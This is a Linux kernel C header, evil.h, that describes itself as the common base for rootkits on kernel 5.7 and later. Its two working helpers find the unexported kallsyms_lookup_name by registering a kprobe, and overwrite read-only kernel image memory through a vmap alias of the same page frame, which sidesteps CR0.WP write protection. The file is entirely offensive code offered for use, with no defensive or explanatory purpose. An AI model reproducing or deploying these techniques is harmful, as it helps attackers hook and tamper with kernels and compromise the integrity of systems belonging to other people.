/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * evil.h - what rootkits for Linux 5.7 and later share: since
 * kallsyms_lookup_name is no longer exported, a kprobe is asked where it is;
 * and since CR0.WP is pinned, read-only memory is written through another
 * mapping of the same frame.
 */
#ifndef EVIL_H
#define EVIL_H

#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>

/* The address of any symbol of the kernel, 0 if it has none. */
static unsigned long __maybe_unused evil_symbol(const char *name)
{
	static unsigned long (*lookup)(const char *name);
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };

	if (!lookup && register_kprobe(&probe) == 0) {
		lookup = (void *)probe.addr;
		unregister_kprobe(&probe);
	}
	return lookup ? lookup(name) : 0;
}

/* Writes len bytes, within a page, over read-only memory of the kernel image:
 * 0 or -ENOMEM. */
static int __maybe_unused evil_write(void *to, const void *from, size_t len)
{
	unsigned long at = (unsigned long)to;
	struct page *page = pfn_to_page(__pa_symbol(at) >> PAGE_SHIFT);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	memcpy(alias + offset_in_page(at), from, len);
	vunmap(alias);
	return 0;
}

#endif /* EVIL_H */
